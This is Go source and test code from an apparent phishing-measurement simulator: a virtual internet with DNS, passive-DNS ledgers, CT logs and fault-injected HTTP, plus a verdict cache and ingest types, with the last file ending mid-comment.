// CountryOf returns the geolocation of an IP ("US" when unassigned, the
// default the ipapi-style enrichment services report for our address pool).
func (n *Internet) CountryOf(ip string) string {
	n.mu.Lock()
	defer n.mu.Unlock()
	if c, ok := n.ipCountry[ip]; ok {
		return c
	}
	return "US"
}

// ClassOf returns the provenance class of an IP (unknown IPs read as
// datacenter, the conservative default used by reputation feeds). Seeded
// egress addresses are classified structurally by their CGNAT block, so
// they never need a ledger entry.
func (n *Internet) ClassOf(ip string) IPClass {
	if c, ok := seededClassOf(ip); ok {
		return c
	}
	n.mu.Lock()
	defer n.mu.Unlock()
	if c, ok := n.ipClass[ip]; ok {
		return c
	}
	return IPDatacenter
}

// AddDNS registers a host -> IP record.
func (n *Internet) AddDNS(host, ip string) {
	n.mu.Lock()
	defer n.mu.Unlock()
	n.dns[strings.ToLower(host)] = ip
}

// RemoveDNS deletes a record (site takedown).
func (n *Internet) RemoveDNS(host string) {
	n.mu.Lock()
	defer n.mu.Unlock()
	delete(n.dns, strings.ToLower(host))
}

// Resolve looks up a host, recording the query in the passive-DNS ledger.
func (n *Internet) Resolve(host, clientIP string) (string, error) {
	return n.resolveAt(host, clientIP, n.Clock.Now())
}

// resolveAt is Resolve with an explicit observation timestamp, so requests
// carrying a forked clock stamp the ledger with their own virtual time.
func (n *Internet) resolveAt(host, clientIP string, at time.Time) (string, error) {
	host = strings.ToLower(host)
	n.mu.Lock()
	defer n.mu.Unlock()
	if n.spill != nil {
		// Spill mode folds live observations into per-host-day aggregates
		// instead of growing the per-query ledger; QueryVolume reads them
		// alongside the background aggregates, so totals come out the same
		// at day granularity. They stay separate from queryAgg so
		// BackgroundQueryVolume keeps counting victim traffic only.
		if n.queryAggLive == nil {
			n.queryAggLive = map[string]map[string]int{}
		}
		if n.queryAggLive[host] == nil {
			// Clone the key: host is often a substring of a much larger
			// URL, and a map key must not pin that backing array.
			n.queryAggLive[strings.Clone(host)] = map[string]int{}
		}
		n.queryAggLive[host][at.Format("2006-01-02")]++
	} else {
		n.queryLog[host] = append(n.queryLog[host], QueryRecord{
			Host: host, At: at, From: clientIP,
		})
	}
	ip, ok := n.dns[host]
	if !ok {
		return "", fmt.Errorf("resolving %q: %w", host, ErrNXDomain)
	}
	return ip, nil
}

// LookupDNS returns the address for host without recording a passive-DNS
// observation. Enrichment joins use it so the pipeline's own lookups never
// inflate the victim-traffic ledger it is measuring.
func (n *Internet) LookupDNS(host string) (string, bool) {
	n.mu.Lock()
	defer n.mu.Unlock()
	ip, ok := n.dns[strings.ToLower(host)]
	return ip, ok
}

// RecordBackgroundQueries injects passive-DNS observations that did not
// originate from the crawler — the victim traffic whose volume the Umbrella
// analysis in Section V-A measures. Counts are stored as per-day aggregates
// (Umbrella itself reports aggregates), spread uniformly across the window
// ending at `until`, so even the corpus's 665-million-query outlier domain
// costs a handful of ledger entries.
func (n *Internet) RecordBackgroundQueries(host string, count int, window time.Duration, until time.Time) {
	if count <= 0 {
		return
	}
	host = strings.ToLower(host)
	n.mu.Lock()
	defer n.mu.Unlock()
	if n.queryAgg == nil {
		n.queryAgg = map[string]map[string]int{}
	}
	if n.queryAgg[host] == nil {
		n.queryAgg[host] = map[string]int{}
	}
	days := int(window / (24 * time.Hour))
	if days < 1 {
		days = 1
	}
	perDay := count / days
	rem := count % days
	at := until.Add(-window)
	for i := 0; i < days; i++ {
		c := perDay
		if i < rem {
			c++
		}
		if c > 0 {
			n.queryAgg[host][at.Format("2006-01-02")] += c
		}
		at = at.Add(24 * time.Hour)
	}
}

// QueryVolume summarizes passive-DNS activity for host inside
// [until-window, until]: total query count and the maximum per-day count.
func (n *Internet) QueryVolume(host string, window time.Duration, until time.Time) (total int, maxDaily int) {
	host = strings.ToLower(host)
	since := until.Add(-window)
	n.mu.Lock()
	defer n.mu.Unlock()
	perDay := map[string]int{}
	for _, q := range n.queryLog[host] {
		if q.At.Before(since) || q.At.After(until) {
			continue
		}
		total++
		day := q.At.Format("2006-01-02")
		perDay[day]++
	}
	for _, agg := range []map[string]int{n.queryAgg[host], n.queryAggLive[host]} {
		for _, day := range sortedDays(agg) {
			c := agg[day]
			t, err := time.Parse("2006-01-02", day)
			if err != nil || t.Before(since.Add(-24*time.Hour)) || t.After(until) {
				continue
			}
			total += c
			perDay[day] += c
		}
	}
	for _, day := range sortedDays(perDay) {
		if perDay[day] > maxDaily {
			maxDaily = perDay[day]
		}
	}
	return total, maxDaily
}

// sortedDays returns the map's day keys in ascending order, so volume
// summaries walk per-day counts deterministically.
func sortedDays(m map[string]int) []string {
	days := make([]string, 0, len(m))
	for day := range m {
		days = append(days, day)
	}
	sort.Strings(days)
	return days
}

// BackgroundQueryVolume summarizes passive-DNS activity for host inside
// [until-window, until] counting only the injected background (victim)
// aggregates, never the crawler's own live resolutions. This is what the
// Umbrella join measures — how much real traffic a domain attracts — and,
// unlike QueryVolume, its result does not depend on what else the pipeline
// happened to crawl, which keeps concurrent corpus analyses deterministic.
func (n *Internet) BackgroundQueryVolume(host string, window time.Duration, until time.Time) (total int, maxDaily int) {
	host = strings.ToLower(host)
	since := until.Add(-window)
	n.mu.Lock()
	defer n.mu.Unlock()
	for _, day := range sortedDays(n.queryAgg[host]) {
		c := n.queryAgg[host][day]
		t, err := time.Parse("2006-01-02", day)
		if err != nil || t.Before(since.Add(-24*time.Hour)) || t.After(until) {
			continue
		}
		total += c
		if c > maxDaily {
			maxDaily = c
		}
	}
	return total, maxDaily
}

// IssueCert creates a TLS certificate for host, appends it to the CT log,
// and returns it.
func (n *Internet) IssueCert(host, issuer string, issuedAt time.Time) *Certificate {
	n.mu.Lock()
	defer n.mu.Unlock()
	n.nextSerial++
	cert := &Certificate{
		Host:      strings.ToLower(host),
		Issuer:    issuer,
		IssuedAt:  issuedAt,
		NotAfter:  issuedAt.Add(90 * 24 * time.Hour),
		SerialNum: n.nextSerial,
	}
	n.certs[cert.Host] = append(n.certs[cert.Host], cert)
	n.ctLog = append(n.ctLog, cert)
	return cert
}

// CertFor returns the most recent certificate for host, if any.
func (n *Internet) CertFor(host string) (*Certificate, bool) {
	n.mu.Lock()
	defer n.mu.Unlock()
	certs := n.certs[strings.ToLower(host)]
	if len(certs) == 0 {
		return nil, false
	}
	return certs[len(certs)-1], true
}

// CTLog returns a copy of the certificate-transparency log in issuance
// order — the public data source prior phishing studies crawled.
func (n *Internet) CTLog() []*Certificate {
	n.mu.Lock()
	defer n.mu.Unlock()
	out := make([]*Certificate, len(n.ctLog))
	copy(out, n.ctLog)
	sort.SliceStable(out, func(i, j int) bool { return out[i].IssuedAt.Before(out[j].IssuedAt) })
	return out
}

// Serve registers a handler for a host name.
func (n *Internet) Serve(host string, h Handler) {
	n.mu.Lock()
	defer n.mu.Unlock()
	n.servers[strings.ToLower(host)] = h
}

// Unserve removes a host's handler (server offline, DNS still present).
func (n *Internet) Unserve(host string) {
	n.mu.Lock()
	defer n.mu.Unlock()
	delete(n.servers, strings.ToLower(host))
}

// Do performs one HTTP round trip: DNS resolution (logged), server lookup,
// handler dispatch, latency accounting, and traffic logging. The round trip
// is abandoned before DNS resolution when ctx is done. Latency is charged
// to req.Clock when the request carries one, otherwise to the shared
// clock — and the request span's timeline reads that same clock, so
// forked-clock visits trace on their own analysis timeline, never the
// Internet's.
//
// When the request carries a resilience session, its seeded schedule is
// consulted first: an injected fault preempts the real exchange (a DNS flap
// surfaces before resolution; resets, slow starts, and 5xx bursts after the
// latency charge), is tagged on the request span ("fault" attribute), and
// feeds webnet_faults_injected_total.
func (n *Internet) Do(ctx context.Context, req *Request) (*Response, error) {
	if err := ctx.Err(); err != nil {
		return nil, err
	}
	req.Host = strings.ToLower(req.Host)
	clock := n.Clock
	if req.Clock != nil {
		clock = req.Clock
	}
	// Span names record method + host + path only: query strings can carry
	// schedule-dependent tokens, which would break trace determinism.
	span := req.Trace.StartAt(obs.SpanRequest, req.Method+" https://"+req.Host+req.Path, clock.Now())
	fault := req.Faults.Draw(req.Host)
	if fault.Kind != resilience.FaultNone {
		n.Metrics.Inc("webnet_faults_injected_total", "kind", fault.Kind.String())
		span.SetAttr("fault", fault.Kind.String())
	}
	n.Metrics.Inc("webnet_dns_queries_total")
	if fault.Kind == resilience.FaultNXDomain {
		// The flap happens at the resolver: the query never reaches the
		// zone, so no passive-DNS observation is recorded and the host's
		// real record is untouched.
		dns := req.Trace.StartAt(obs.SpanDNS, "resolve "+req.Host, clock.Now())
		n.finishSpan(dns, clock, "nxdomain")
		n.finishSpan(span, clock, "nxdomain")
		return nil, fmt.Errorf("resolving %q: transient flap: %w", req.Host, ErrNXDomain)
	}
	dns := req.Trace.StartAt(obs.SpanDNS, "resolve "+req.Host, clock.Now())
	if _, err := n.resolveAt(req.Host, req.ClientIP, clock.Now()); err != nil {
		n.finishSpan(dns, clock, "nxdomain")
		n.finishSpan(span, clock, "nxdomain")
		return nil, err
	}
	n.finishSpan(dns, clock, "")
	n.mu.Lock()
	handler, ok := n.servers[req.Host]
	latency := n.RequestLatency
	n.mu.Unlock()
	clock.Advance(latency)
	n.Metrics.Observe("webnet_request_latency_ns", float64(latency))
	switch fault.Kind {
	case resilience.FaultReset:
		n.logExchange(req, 0, clock.Now())
		n.finishSpan(span, clock, "reset")
		return nil, fmt.Errorf("connecting to %q: %w", req.Host, ErrReset)
	case resilience.FaultSlowStart:
		clock.Advance(fault.Stall)
		n.logExchange(req, 0, clock.Now())
		n.finishSpan(span, clock, "timeout")
		return nil, fmt.Errorf("waiting for %q: slow start: %w", req.Host, ErrTimeout)
	case resilience.Fault5xx:
		// The origin answers with an overload status before the handler
		// ever sees the request.
		resp := &Response{
			Status:  fault.Status,
			Headers: map[string]string{"Retry-After": "1"},
			Body:    []byte("503 service unavailable\n"),
		}
		n.logExchange(req, resp.Status, clock.Now())
		n.Metrics.Inc("webnet_requests_total", "status", statusClass(resp.Status))
		n.Metrics.Add("webnet_response_bytes_total", float64(len(resp.Body)))
		if span != nil {
			span.SetAttr("status", strconv.Itoa(resp.Status))
			span.SetAttr("bytes", strconv.Itoa(len(resp.Body)))
			span.EndAt(clock.Now())
		}
		return resp, nil
	}
	if !ok {
		n.logExchange(req, 0, clock.Now())
		n.finishSpan(span, clock, "unreachable")
		return nil, fmt.Errorf("connecting to %q: %w", req.Host, ErrUnreachable)
	}
	resp := handler(req)
	if resp == nil {
		n.logExchange(req, 0, clock.Now())
		n.finishSpan(span, clock, "timeout")
		return nil, fmt.Errorf("waiting for %q: %w", req.Host, ErrTimeout)
	}
	if resp.Headers == nil {
		resp.Headers = map[string]string{}
	}
	n.logExchange(req, resp.Status, clock.Now())
	n.Metrics.Inc("webnet_requests_total", "status", statusClass(resp.Status))
	n.Metrics.Add("webnet_response_bytes_total", float64(len(resp.Body)))
	if span != nil {
		span.SetAttr("status", strconv.Itoa(resp.Status))
		span.SetAttr("bytes", strconv.Itoa(len(resp.Body)))
		span.EndAt(clock.Now())
	}
	return resp, nil
}

// finishSpan closes a span on the request's clock; a non-empty errKind
// marks it failed and feeds the error counter. Safe on nil spans.
func (n *Internet) finishSpan(span *obs.Span, clock *Clock, errKind string) {
	if errKind != "" {
		n.Metrics.Inc("webnet_request_errors_total", "kind", errKind)
		span.SetStatus(obs.StatusError)
		span.SetAttr("error", errKind)
	}
	span.EndAt(clock.Now())
}

// statusClass buckets an HTTP status for low-cardinality metric labels.
func statusClass(status int) string {
	switch {
	case status >= 500:
		return "5xx"
	case status >= 400:
		return "4xx"
	case status >= 300:
		return "3xx"
	case status >= 200:
		return "2xx"
	default:
		return "other"
	}
}

func (n *Internet) logExchange(req *Request, status int, at time.Time) {
	n.mu.Lock()
	defer n.mu.Unlock()
	e := LoggedExchange{Request: *req, Status: status, At: at}
	if n.spill != nil {
		n.spillExchangeLocked(&e)
		return
	}
	n.trafficLog = append(n.trafficLog, e)
	if n.trafficByHost == nil {
		n.trafficByHost = map[string][]int{}
	}
	n.trafficByHost[req.Host] = append(n.trafficByHost[req.Host], len(n.trafficLog)-1)
}

// Traffic returns a copy of the exchange log. Aggregation paths that only
// read the ledger should prefer EachTraffic, which avoids the copy.
func (n *Internet) Traffic() []LoggedExchange {
	n.mu.Lock()
	if n.spill != nil {
		store := n.spill
		count := n.spilled
		n.mu.Unlock()
		out := make([]LoggedExchange, 0, count)
		_ = store.Each(func(_ evstore.Handle, kind evstore.Kind, payload []byte) bool {
			if kind != evstore.KindExchange {
				return true
			}
			if e, err := decodeExchange(payload); err == nil {
				out = append(out, e)
			}
			return true
		})
		return out
	}
	defer n.mu.Unlock()
	out := make([]LoggedExchange, len(n.trafficLog))
	copy(out, n.trafficLog)
	return out
}

// TrafficLen returns the number of logged exchanges.
func (n *Internet) TrafficLen() int {
	n.mu.Lock()
	defer n.mu.Unlock()
	if n.spill != nil {
		return n.spilled
	}
	return len(n.trafficLog)
}

// EachTraffic calls fn for every logged exchange in log order, without
// copying the ledger, until fn returns false. The entry pointer is valid
// only for the duration of the call and must not be retained or mutated.
//
// The iteration is a consistent zero-copy snapshot: the ledger is
// append-only and entries are immutable once logged, so only the slice
// header is read under the lock — concurrent appends go to positions past
// the snapshot's length and are never observed. fn may safely call back
// into the Internet (no lock is held during iteration).
func (n *Internet) EachTraffic(fn func(e *LoggedExchange) bool) {
	n.mu.Lock()
	if n.spill != nil {
		store := n.spill
		n.mu.Unlock()
		// Spill mode: sequential scan of the evidence store, decoding each
		// exchange on demand. Records of other kinds sharing the store are
		// skipped; a record that fails to decode is dropped (the spill
		// counter already surfaced the loss if the append failed).
		_ = store.Each(func(_ evstore.Handle, kind evstore.Kind, payload []byte) bool {
			if kind != evstore.KindExchange {
				return true
			}
			e, err := decodeExchange(payload)
			if err != nil {
				return true
			}
			return fn(&e)
		})
		return
	}
	log := n.trafficLog
	n.mu.Unlock()
	for i := range log {
		if !fn(&log[i]) {
			return
		}
	}
}

// EachTrafficTo calls fn for every logged exchange addressed to host, in
// log order, until fn returns false. In RAM mode it walks the by-host
// index, so the cost scales with the host's own traffic, not the whole
// ledger; in spill mode it scans the store, decoding only records whose
// host matches — a post-run reporting path, priced accordingly so that
// nothing per-exchange stays resident during the run. The same zero-copy
// snapshot semantics as EachTraffic apply.
func (n *Internet) EachTrafficTo(host string, fn func(e *LoggedExchange) bool) {
	host = strings.ToLower(host)
	n.mu.Lock()
	if n.spill != nil {
		store := n.spill
		n.mu.Unlock()
		_ = store.Each(func(_ evstore.Handle, kind evstore.Kind, payload []byte) bool {
			if kind != evstore.KindExchange {
				return true
			}
			e, err := decodeExchange(payload)
			if err != nil || e.Request.Host != host {
				return true
			}
			return fn(&e)
		})
		return
	}
	log := n.trafficLog
	idx := n.trafficByHost[host]
	n.mu.Unlock()
	for _, i := range idx {
		if !fn(&log[i]) {
			return
		}
	}
}

// TrafficTo returns a copy of the exchanges addressed to a host. In RAM
// mode it is built on the by-host index, so it never scans unrelated
// traffic; in spill mode it filters a store scan, like EachTrafficTo.
func (n *Internet) TrafficTo(host string) []LoggedExchange {
	host = strings.ToLower(host)
	n.mu.Lock()
	if n.spill != nil {
		n.mu.Unlock()
		var out []LoggedExchange
		n.EachTrafficTo(host, func(e *LoggedExchange) bool {
			out = append(out, *e)
			return true
		})
		return out
	}
	log := n.trafficLog
	idx := n.trafficByHost[host]
	n.mu.Unlock()
	if len(idx) == 0 {
		return nil
	}
	out := make([]LoggedExchange, 0, len(idx))
	for _, i := range idx {
		out = append(out, log[i])
	}
	return out
}
