package webnet

import (
	"context"
	"errors"
	"testing"
	"testing/quick"
	"time"
)

var _epoch = time.Date(2024, 1, 1, 0, 0, 0, 0, time.UTC)

func TestClock(t *testing.T) {
	c := NewClock(_epoch)
	if !c.Now().Equal(_epoch) {
		t.Fatal("clock start wrong")
	}
	c.Advance(time.Hour)
	if got := c.Now().Sub(_epoch); got != time.Hour {
		t.Errorf("after Advance: %v", got)
	}
	c.Advance(-time.Hour) // ignored
	if got := c.Now().Sub(_epoch); got != time.Hour {
		t.Errorf("negative advance must be ignored: %v", got)
	}
	c.Set(_epoch.Add(3 * time.Hour))
	if got := c.Now().Sub(_epoch); got != 3*time.Hour {
		t.Errorf("Set: %v", got)
	}
	c.Set(_epoch) // backwards jump ignored
	if got := c.Now().Sub(_epoch); got != 3*time.Hour {
		t.Errorf("backwards Set must be ignored: %v", got)
	}
}

func newNet() *Internet {
	return NewInternet(NewClock(_epoch))
}

func TestAllocateIPDistinctAndClassed(t *testing.T) {
	n := newNet()
	seen := map[string]bool{}
	for i := 0; i < 600; i++ {
		ip := n.AllocateIP(IPResidential)
		if seen[ip] {
			t.Fatalf("duplicate IP %s", ip)
		}
		seen[ip] = true
	}
	mobile := n.AllocateIP(IPMobile)
	if n.ClassOf(mobile) != IPMobile {
		t.Errorf("ClassOf(mobile) = %v", n.ClassOf(mobile))
	}
	if n.ClassOf("203.0.113.200") != IPDatacenter {
		t.Error("unknown IPs must default to datacenter")
	}
}

func TestResolveAndNXDomain(t *testing.T) {
	n := newNet()
	n.AddDNS("phish.example", "198.18.0.99")
	ip, err := n.Resolve("PHISH.example", "10.0.0.1")
	if err != nil || ip != "198.18.0.99" {
		t.Fatalf("Resolve = %q, %v", ip, err)
	}
	if _, err := n.Resolve("gone.example", "10.0.0.1"); !errors.Is(err, ErrNXDomain) {
		t.Errorf("err = %v, want ErrNXDomain", err)
	}
	n.RemoveDNS("phish.example")
	if _, err := n.Resolve("phish.example", "10.0.0.1"); !errors.Is(err, ErrNXDomain) {
		t.Errorf("after RemoveDNS err = %v", err)
	}
}

func TestPassiveDNSLedger(t *testing.T) {
	n := newNet()
	n.AddDNS("tracked.example", "198.18.0.5")
	for i := 0; i < 3; i++ {
		if _, err := n.Resolve("tracked.example", "10.0.0.1"); err != nil {
			t.Fatal(err)
		}
		n.Clock.Advance(time.Hour)
	}
	total, maxDaily := n.QueryVolume("tracked.example", 30*24*time.Hour, n.Clock.Now())
	if total != 3 {
		t.Errorf("total = %d, want 3", total)
	}
	if maxDaily != 3 {
		t.Errorf("maxDaily = %d, want 3 (same day)", maxDaily)
	}
}

func TestBackgroundQueriesShapeVolume(t *testing.T) {
	n := newNet()
	until := _epoch.Add(30 * 24 * time.Hour)
	n.RecordBackgroundQueries("lowvol.example", 43, 30*24*time.Hour, until)
	n.RecordBackgroundQueries("highvol.example", 665000, 30*24*time.Hour, until)
	totalLow, maxLow := n.QueryVolume("lowvol.example", 30*24*time.Hour, until)
	totalHigh, maxHigh := n.QueryVolume("highvol.example", 30*24*time.Hour, until)
	if totalLow != 43 {
		t.Errorf("low total = %d", totalLow)
	}
	if totalHigh != 665000 {
		t.Errorf("high total = %d", totalHigh)
	}
	if maxLow >= maxHigh {
		t.Errorf("daily maxima not ordered: %d vs %d", maxLow, maxHigh)
	}
	// Queries outside the window are excluded.
	total, _ := n.QueryVolume("lowvol.example", 24*time.Hour, until.Add(-20*24*time.Hour))
	if total >= 43 {
		t.Errorf("window filter ineffective: %d", total)
	}
}

func TestCertificatesAndCTLog(t *testing.T) {
	n := newNet()
	c1 := n.IssueCert("a.example", "LetsEncrypt", _epoch)
	c2 := n.IssueCert("b.example", "LetsEncrypt", _epoch.Add(time.Hour))
	n.IssueCert("a.example", "LetsEncrypt", _epoch.Add(2*time.Hour)) // renewal
	got, ok := n.CertFor("a.example")
	if !ok || got.IssuedAt != _epoch.Add(2*time.Hour) {
		t.Errorf("CertFor returned %+v", got)
	}
	if _, ok := n.CertFor("nocert.example"); ok {
		t.Error("CertFor on unknown host should report absence")
	}
	log := n.CTLog()
	if len(log) != 3 {
		t.Fatalf("CT log = %d entries", len(log))
	}
	if log[0] != c1 || log[1] != c2 {
		t.Error("CT log order wrong")
	}
	if c1.SerialNum == c2.SerialNum {
		t.Error("serials must be unique")
	}
	if !c1.NotAfter.After(c1.IssuedAt) {
		t.Error("certificate validity window inverted")
	}
}

func TestHTTPRoundTrip(t *testing.T) {
	n := newNet()
	ip := n.AllocateIP(IPDatacenter)
	n.AddDNS("site.example", ip)
	n.Serve("site.example", func(req *Request) *Response {
		if req.Path == "/login" {
			return &Response{Status: 200, Body: []byte("<html>login</html>"),
				Headers: map[string]string{"Content-Type": "text/html"}}
		}
		return &Response{Status: 404, Body: []byte("not found")}
	})
	resp, err := n.Do(context.Background(), &Request{Method: "GET", Host: "site.example", Path: "/login", ClientIP: "10.1.1.1"})
	if err != nil {
		t.Fatal(err)
	}
	if resp.Status != 200 || string(resp.Body) != "<html>login</html>" {
		t.Errorf("resp = %d %q", resp.Status, resp.Body)
	}
	if resp.Header("content-type") != "text/html" {
		t.Errorf("header lookup should be case-insensitive")
	}
	resp, err = n.Do(context.Background(), &Request{Method: "GET", Host: "site.example", Path: "/other", ClientIP: "10.1.1.1"})
	if err != nil || resp.Status != 404 {
		t.Errorf("404 path: %v %v", resp, err)
	}
}

func TestHTTPErrors(t *testing.T) {
	n := newNet()
	if _, err := n.Do(context.Background(), &Request{Host: "nxdomain.example", Path: "/"}); !errors.Is(err, ErrNXDomain) {
		t.Errorf("err = %v, want NXDOMAIN", err)
	}
	n.AddDNS("deadhost.example", "198.18.1.1")
	if _, err := n.Do(context.Background(), &Request{Host: "deadhost.example", Path: "/"}); !errors.Is(err, ErrUnreachable) {
		t.Errorf("err = %v, want unreachable", err)
	}
	n.AddDNS("tarpit.example", "198.18.1.2")
	n.Serve("tarpit.example", func(*Request) *Response { return nil })
	if _, err := n.Do(context.Background(), &Request{Host: "tarpit.example", Path: "/"}); !errors.Is(err, ErrTimeout) {
		t.Errorf("err = %v, want timeout", err)
	}
}

func TestHTTPLatencyAdvancesClock(t *testing.T) {
	n := newNet()
	n.AddDNS("x.example", "198.18.1.3")
	n.Serve("x.example", func(*Request) *Response { return &Response{Status: 200} })
	before := n.Clock.Now()
	if _, err := n.Do(context.Background(), &Request{Host: "x.example", Path: "/"}); err != nil {
		t.Fatal(err)
	}
	if got := n.Clock.Now().Sub(before); got != n.RequestLatency {
		t.Errorf("clock advanced %v, want %v", got, n.RequestLatency)
	}
}

func TestTrafficLogAndReferralAnalysis(t *testing.T) {
	// The paper's key defensive finding: phishing pages hot-load brand
	// logos; the brand can spot impersonation early by watching referer
	// headers on its own asset servers.
	n := newNet()
	n.AddDNS("brand.example", "198.18.2.1")
	n.Serve("brand.example", func(req *Request) *Response {
		return &Response{Status: 200, Body: []byte("logo-bytes")}
	})
	req := &Request{
		Method: "GET", Host: "brand.example", Path: "/assets/logo.png",
		Headers:  map[string]string{"Referer": "https://evil-login.buzz/portal"},
		ClientIP: "10.9.9.9",
	}
	if _, err := n.Do(context.Background(), req); err != nil {
		t.Fatal(err)
	}
	exchanges := n.TrafficTo("brand.example")
	if len(exchanges) != 1 {
		t.Fatalf("traffic = %d", len(exchanges))
	}
	if got := exchanges[0].Request.Header("referer"); got != "https://evil-login.buzz/portal" {
		t.Errorf("referer = %q", got)
	}
}

func TestRequestHelpers(t *testing.T) {
	r := &Request{Host: "h.example", Path: "/p", RawQuery: "a=1"}
	if r.URL() != "https://h.example/p?a=1" {
		t.Errorf("URL = %q", r.URL())
	}
	r2 := &Request{Host: "h.example", Path: "/p"}
	if r2.URL() != "https://h.example/p" {
		t.Errorf("URL = %q", r2.URL())
	}
	if r.Header("missing") != "" {
		t.Error("missing header should be empty")
	}
}

func TestAllocateIPUniquenessProperty(t *testing.T) {
	n := newNet()
	seen := map[string]bool{}
	f := func(class uint8) bool {
		ip := n.AllocateIP(IPClass(class%4 + 1))
		if seen[ip] {
			return false
		}
		seen[ip] = true
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 500}); err != nil {
		t.Error(err)
	}
}

func TestClockMonotonicProperty(t *testing.T) {
	c := NewClock(_epoch)
	f := func(deltas []int16) bool {
		prev := c.Now()
		for _, d := range deltas {
			c.Advance(time.Duration(d) * time.Second) // negatives ignored
			if c.Now().Before(prev) {
				return false
			}
			prev = c.Now()
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 50}); err != nil {
		t.Error(err)
	}
}

func TestIPCountry(t *testing.T) {
	n := newNet()
	ip := n.AllocateIP(IPResidential)
	if n.CountryOf(ip) != "US" {
		t.Errorf("default country = %q, want US", n.CountryOf(ip))
	}
	n.SetIPCountry(ip, "FR")
	if n.CountryOf(ip) != "FR" {
		t.Errorf("country = %q, want FR", n.CountryOf(ip))
	}
}
