// Package webnet simulates the slice of the Internet that CrawlerBox
// interacts with: a virtual clock, an IPv4 address space with provenance
// classes (residential, mobile, datacenter, security-vendor), DNS resolution
// with a passive-DNS query ledger (the Cisco Umbrella substitute), TLS
// certificates with a certificate-transparency log, and an HTTP layer where
// simulated servers receive structured requests and return structured
// responses.
//
// Everything is deterministic: time advances only through the virtual clock
// and randomness comes from seeded generators owned by callers.
package webnet

import (
	"sync"
	"time"
)

// Clock is a virtual clock. All timing behavior in the simulation — delayed
// phishing-site activation, timing-based bot checks, crawl timestamps —
// reads from a Clock, so experiments are reproducible.
type Clock struct {
	mu  sync.Mutex
	now time.Time // guarded by mu
}

// NewClock returns a clock set to the given start time.
func NewClock(start time.Time) *Clock {
	return &Clock{now: start}
}

// Now returns the current virtual time.
func (c *Clock) Now() time.Time {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.now
}

// Advance moves the clock forward by d (negative d is ignored).
func (c *Clock) Advance(d time.Duration) {
	if d < 0 {
		return
	}
	c.mu.Lock()
	defer c.mu.Unlock()
	c.now = c.now.Add(d)
}

// Set jumps the clock to t if t is not before the current time.
func (c *Clock) Set(t time.Time) {
	c.mu.Lock()
	defer c.mu.Unlock()
	if t.After(c.now) {
		c.now = t
	}
}

// Fork returns an independent clock starting at this clock's current time.
// Concurrent analyses each fork the world clock so that latency accounting
// and event-loop time in one analysis never leak into another — the
// foundation of the pipeline's determinism-under-parallelism guarantee.
func (c *Clock) Fork() *Clock {
	return &Clock{now: c.Now()}
}
