package ingest

import (
	"hash/fnv"
	"sync"

	"crawlerbox/internal/tracestore"
)

// cacheShards is the verdict cache's shard count. Power of two, sized so
// worker threads rarely contend on one mutex.
const cacheShards = 16

// cacheEntry is one canonical-URL key's state: a completed verdict, or a
// pending analysis with the IDs of later submissions waiting on it.
// Hit-or-miss is decided at admission time under the shard lock, so a
// key's second submission is always a hit — as a waiter while the first is
// in flight, or directly once it completed — and the hit/miss assignment
// is a pure function of submission order, independent of scheduling.
type cacheEntry struct {
	done     bool
	sourceID int64 // ID of the submission whose analysis fills the entry
	verdict  tracestore.Verdict
	waiters  []int64 // protected by the owning shard's mu
}

type cacheShard struct {
	mu      sync.Mutex
	entries map[string]*cacheEntry // guarded by mu
}

// verdictCache is the sharded singleflight-with-memory dedup cache keyed
// by canonical URL. It has no eviction: the workload's key space is the
// set of distinct landing URLs, which the paper's measurements put at
// roughly 1/2.62 of the message volume — the cache IS the scaling lever,
// not a bounded accelerator.
type verdictCache struct {
	shards [cacheShards]cacheShard
}

func newVerdictCache() *verdictCache {
	c := &verdictCache{}
	for i := range c.shards {
		c.shards[i].entries = make(map[string]*cacheEntry)
	}
	return c
}

func (c *verdictCache) shard(key string) *cacheShard {
	h := fnv.New32a()
	_, _ = h.Write([]byte(key))
	return &c.shards[h.Sum32()%cacheShards]
}

// admission classifies one keyed submission at admission time.
type admission int

const (
	// admitFresh: first submission of the key — run the pipeline.
	admitFresh admission = iota
	// admitWait: the key's analysis is in flight — the verdict will be
	// emitted when it completes.
	admitWait
	// admitHit: the key's verdict is stored — emit it now.
	admitHit
)

// admit records submission id under key and reports how to proceed. For
// admitHit the completed entry's verdict and source ID are returned.
func (c *verdictCache) admit(key string, id int64) (admission, tracestore.Verdict, int64) {
	sh := c.shard(key)
	sh.mu.Lock()
	defer sh.mu.Unlock()
	e := sh.entries[key]
	if e == nil {
		sh.entries[key] = &cacheEntry{sourceID: id}
		return admitFresh, tracestore.Verdict{}, 0
	}
	if e.done {
		return admitHit, e.verdict, e.sourceID
	}
	e.waiters = append(e.waiters, id)
	return admitWait, tracestore.Verdict{}, 0
}

// complete stores the key's verdict and returns the waiters to flush,
// with the source ID the cached emissions should reference.
func (c *verdictCache) complete(key string, v tracestore.Verdict) (waiters []int64, sourceID int64) {
	sh := c.shard(key)
	sh.mu.Lock()
	defer sh.mu.Unlock()
	e := sh.entries[key]
	if e == nil || e.done {
		return nil, 0
	}
	e.done = true
	e.verdict = v
	waiters = e.waiters
	e.waiters = nil
	return waiters, e.sourceID
}

// warm installs a completed verdict, as when resuming from a checkpoint:
// a fresh done record seeds the cache so the key's remaining submissions
// hit without re-analysis.
func (c *verdictCache) warm(key string, sourceID int64, v tracestore.Verdict) {
	sh := c.shard(key)
	sh.mu.Lock()
	defer sh.mu.Unlock()
	if sh.entries[key] == nil {
		sh.entries[key] = &cacheEntry{done: true, sourceID: sourceID, verdict: v}
	}
}
