package ingest

import (
	"encoding/json"
	"fmt"
	"time"

	"crawlerbox/internal/evstore"
)

// Spec is one reported message submitted for analysis: the unit of work
// the ingest service accepts, journals, and feeds to the pipeline.
type Spec struct {
	// ID is the caller-assigned message ID: it seeds the analysis RNG
	// stream and keys the verdict, so it must be unique within a log.
	ID int64 `json:"id"`
	// At is the virtual analysis time (typically delivery plus the paper's
	// two-hour reporting lag). A zero At forks the world clock.
	At time.Time `json:"at"`
	// Raw is the RFC 5322 message bytes (base64 in the JSON encoding).
	Raw []byte `json:"raw"`
}

// Log is the service's append-only ingest journal: an evstore file holding
// one KindIngestSpec record per accepted submission and one KindIngestDone
// record per emitted verdict. The pairing is the checkpoint: a restarted
// daemon re-enqueues exactly the specs without a done record and re-emits
// the done records verbatim, so work is neither lost nor re-analyzed.
//
// The journal is operational state, not a determinism artifact — done
// records land in completion order, which depends on scheduling. The
// determinism contract lives one level up: replaying a log's spec sequence
